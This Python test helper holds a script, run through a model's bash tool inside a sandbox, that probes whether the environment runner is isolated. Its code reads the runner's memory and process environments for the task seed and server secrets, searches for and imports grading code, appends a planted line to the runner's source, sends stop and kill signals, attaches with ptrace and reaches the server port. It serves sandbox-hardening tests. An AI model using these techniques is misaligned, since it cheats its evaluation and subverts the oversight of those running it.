"""The attacker's side of tests/test_sandbox_attacks.py: one program, run by the model's bash
tool inside the sandbox, that tries every way at the env's runner it knows and prints one JSON
line: ``ATTACKS {name: outcome}``.

An outcome is ``"refused: <reason>"`` when the attack failed at the point where it would have
gained something, or a string starting ``"GOT"`` when it succeeded (it read, wrote, signalled or
reached what it went for). The needles it looks for (the task's canary id and seed, the
server's secrets) arrive base64-encoded, so that the program's own text, which passes through
the runner's memory as a tool call, never contains them in the clear.

Standard library only, and quiet: the tool cuts output at 8 KB.
"""

from __future__ import annotations

import json
import shlex

ATTACK = r"""
import base64, ctypes, errno, json, os, signal, socket, sys, time

NEEDLES = [base64.b64decode(n) for n in json.loads(sys.argv[1])]
PORT = int(sys.argv[2])
CODE_ROOTS = json.loads(sys.argv[3])
GENTLE = sys.argv[4] == "gentle"  # no SIGSTOP/SIGKILL (the control, where they would land)
out = {}


def why(e):
    if isinstance(e, OSError) and e.errno:
        return "refused: " + errno.errorcode.get(e.errno, str(e.errno))
    return "refused: " + repr(e)


def cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read()
    except OSError:
        return b""


def ppid(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("PPid:"):
                    return int(line.split()[1])
    except OSError:
        return 0
    return 0


def nspids(pid):  # the pid in each pid namespace, from /proc's down to the process's own
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("NSpid:"):
                    return [int(x) for x in line.split()[1:]]
    except OSError:
        pass
    return []


def is_runner(pid):
    args = cmdline(pid).split(b"\0")
    return any(a == b"-m" and b == b"corral.envs.runner" for a, b in zip(args, args[1:]))


def find_runner():
    pid = int(os.readlink("/proc/self"))  # this process as /proc numbers it (maybe not getpid)
    while pid > 1:  # an ancestor first: the runner that started this very command
        if is_runner(pid):
            return pid
        pid = ppid(pid)
    for name in os.listdir("/proc"):
        if name.isdigit() and is_runner(name):
            return int(name)
    return None


R = find_runner()
out["runner_found"] = "GOT" if R else "refused: no runner process visible"
if R is None:
    R = 1  # still attack something: the namespace's first process

# 1. the runner's memory map and memory (the original cheat: the seed is in there)
try:
    with open(f"/proc/{R}/maps") as f:
        maps = f.read()
    out["maps"] = "GOT %d bytes" % len(maps)
except OSError as e:
    maps = ""
    out["maps"] = why(e)
try:
    fd = os.open(f"/proc/{R}/mem", os.O_RDONLY)
except OSError as e:
    out["mem_read"] = why(e)
else:
    found, read = [], 0
    for line in maps.splitlines():
        addr, perms = line.split()[:2]
        if not perms.startswith("rw"):
            continue
        lo, hi = (int(x, 16) for x in addr.split("-"))
        try:
            chunk = os.pread(fd, min(hi - lo, 64 << 20), lo)
        except OSError:
            continue
        read += len(chunk)
        found += [i for i, n in enumerate(NEEDLES) if n in chunk]
    os.close(fd)
    got = f"GOT {read} bytes, needles {sorted(set(found))}"
    out["mem_read"] = got if read else "refused: nothing readable"

# 2. its file descriptors (the protocol pipes among them), and this command's own
try:
    out["fd_list"] = "GOT " + ",".join(os.listdir(f"/proc/{R}/fd"))
except OSError as e:
    out["fd_list"] = why(e)
opened = []
for n in range(0, 12):
    try:
        fd = os.open(f"/proc/{R}/fd/{n}", os.O_RDWR | os.O_NONBLOCK)
        opened.append(n)
        os.close(fd)
    except OSError:
        pass
out["fd_open"] = f"GOT {opened}" if opened else "refused: none of fds 0-11 opens"
# The model's shell's own descriptors (this program's stdin is the here-document).
shell = ppid(int(os.readlink("/proc/self")))
mine = {}
for n in os.listdir(f"/proc/{shell}/fd"):
    try:
        mine[n] = os.readlink(f"/proc/{shell}/fd/{n}")
    except OSError:
        pass
extra = {n: t for n, t in mine.items() if int(n) > 2 and not t.startswith("/proc")}
out["own_fds"] = f"GOT inherited {extra}" if extra else "refused: only 0-2 inherited"
stdin = mine.get("0", "?")
out["own_stdin"] = "GOT a pipe" if stdin.startswith("pipe:") else "refused: stdin is " + stdin

# 3. every readable environment, for the server's secrets
leaked, readable = [], 0
for name in os.listdir("/proc"):
    if not name.isdigit():
        continue
    try:
        with open(f"/proc/{name}/environ", "rb") as f:
            env = f.read()
    except OSError:
        continue
    readable += 1
    leaked += [i for i, n in enumerate(NEEDLES) if n in env]
out["environ"] = f"GOT needles {sorted(set(leaked))}" if leaked else f"refused: {readable} read"
try:
    with open(f"/proc/{R}/environ", "rb") as f:
        out["runner_environ"] = "GOT %d bytes" % len(f.read())
except OSError as e:
    out["runner_environ"] = why(e)

# 4. grading code anywhere it can look, and the runner's own code
# Where checkouts live first, the system's big trees last (a loaded host's walk may run out of
# time before it reaches /tmp or /work otherwise), and no VCS or node_modules trees.
SYSTEM = ("usr", "var", "lib", "lib32", "lib64", "libx32", "snap", "boot", "bin", "sbin")
graders, deadline = [], time.monotonic() + 4
for top in ["/"]:
    for folder, dirs, files in os.walk(top):
        if time.monotonic() > deadline:
            break
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ("/proc", "/sys", "/dev")]
        dirs[:] = [d for d in dirs if d not in (".git", "node_modules", "__pycache__")]
        if folder == "/":
            dirs.sort(key=lambda d: (d in SYSTEM, d))
        if not {"bundle.toml", "snapshot.py", "files.py"} & set(files):
            continue  # a shellcraft bundle's folder (by its other files), not any verifier.py
        for f in files:
            if f in ("answers.py", "verifier.py", "solver.py", "generate.py"):
                p = os.path.join(folder, f)
                try:
                    with open(p, "rb") as fh:
                        if b"def " in fh.read():
                            graders.append(p)
                except OSError:
                    pass
out["grading_code"] = f"GOT {graders[:3]}" if graders else "refused: none readable"
code = []
for root in CODE_ROOTS:
    try:
        code += os.listdir(root)
    except OSError as e:
        out["code_list"] = why(e)
if code:
    out["code_list"] = f"GOT {sorted(code)}"
elif "code_list" not in out:
    out["code_list"] = "refused: empty"
for root in CODE_ROOTS:
    for rel in ("corral/envs/runner.py", "corral/envs/model_actions.py", "bundle/env.py"):
        p = os.path.join(root, rel)
        try:
            with open(p, "r+b") as f:  # the runner's own files: no new file of its own
                f.seek(0, 2)
                f.write(b"\nraise SystemExit('planted')\n")
            out["code_write"] = f"GOT {p}"
            break
        except OSError as e:
            out.setdefault("code_write", why(e))
# The verifier as a module, from every folder the runner's code could be in: each code root,
# its bundle folder, and /opt/corral's (where the bind backends mount it).
import importlib
folders = []
for root in [*CODE_ROOTS, "/opt/corral"]:
    folders += [f for f in (os.path.join(root, "bundle"), root) if f not in folders]
out["import_verifier"] = f"refused: no verifier module in {len(folders)} folders"
for folder in folders:
    sys.path.insert(0, folder)
    importlib.invalidate_caches()
    try:
        verifier = importlib.import_module("verifier")
    except Exception:
        continue
    finally:
        sys.path.remove(folder)
    out["import_verifier"] = "GOT " + str(verifier.__file__)
    break
try:
    out["runner_cwd"] = "GOT " + os.readlink(f"/proc/{R}/cwd")
except OSError as e:
    out["runner_cwd"] = why(e)

# 5. signals and tracing
# kill() names a pid in this process's own pid namespace: the runner's number there, if any.
mine_ns, its_ns = nspids("self"), nspids(R)
target = its_ns[-1] if its_ns and len(its_ns) == len(mine_ns) else None
SIGNALS = [("signal_0", 0)]
if not GENTLE:
    SIGNALS += [("signal_stop", signal.SIGSTOP), ("signal_kill", signal.SIGKILL)]
for label, sig in SIGNALS:
    if target is None:
        out[label] = "refused: the runner has no pid in this pid namespace"
        continue
    try:
        os.kill(target, sig)
        out[label] = "GOT delivered"
    except OSError as e:
        out[label] = why(e)
if out.get("signal_stop", "").startswith("GOT"):
    os.kill(target, signal.SIGCONT)
libc = ctypes.CDLL(None, use_errno=True)
try:
    dfd = os.open(f"/proc/{R}", os.O_RDONLY | os.O_DIRECTORY)
    rc = libc.syscall(424, dfd, 0, None, 0)  # pidfd_send_signal(fd, 0): may it signal?
    out["pidfd_signal"] = "GOT delivered" if rc == 0 else why(OSError(ctypes.get_errno(), ""))
    os.close(dfd)
except OSError as e:
    out["pidfd_signal"] = why(e)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
# PTRACE_SEIZE: the same permission check as PTRACE_ATTACH (may this process trace that
# one?) without stopping the runner, whose episode is still being measured.
rc = libc.ptrace(0x4206, R, None, None)
out["ptrace_attach"] = "GOT attached" if rc == 0 else why(OSError(ctypes.get_errno(), ""))
if rc == 0:
    libc.ptrace(17, R, None, None)  # PTRACE_DETACH (exiting detaches anyway)
try:
    fd = os.open(f"/proc/{R}/mem", os.O_WRONLY)
    out["mem_write"] = "GOT opened for writing"
    os.close(fd)
except OSError as e:
    out["mem_write"] = why(e)

# 6. the env server's port on the host's loopback
try:
    s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
    out["server_port"] = "GOT " + s.recv(12).decode(errors="replace")
    s.close()
except OSError as e:
    out["server_port"] = why(e)

print("ATTACKS " + json.dumps(out, sort_keys=True))
"""


def attack_command(
    needles_b64: list[str], port: int, code_roots: list[str], *, gentle: bool = False
) -> str:
    """The bash command that runs :data:`ATTACK` with its arguments; ``gentle``: signal 0
    only (where a SIGKILL would land, it must not end the episode being measured)."""
    argv = (json.dumps(needles_b64), str(port), json.dumps(code_roots))
    args = " ".join(shlex.quote(a) for a in (*argv, "gentle" if gentle else "full"))
    return f"python3 - {args} <<'CORRAL_ATTACK_EOF'\n{ATTACK}\nCORRAL_ATTACK_EOF"
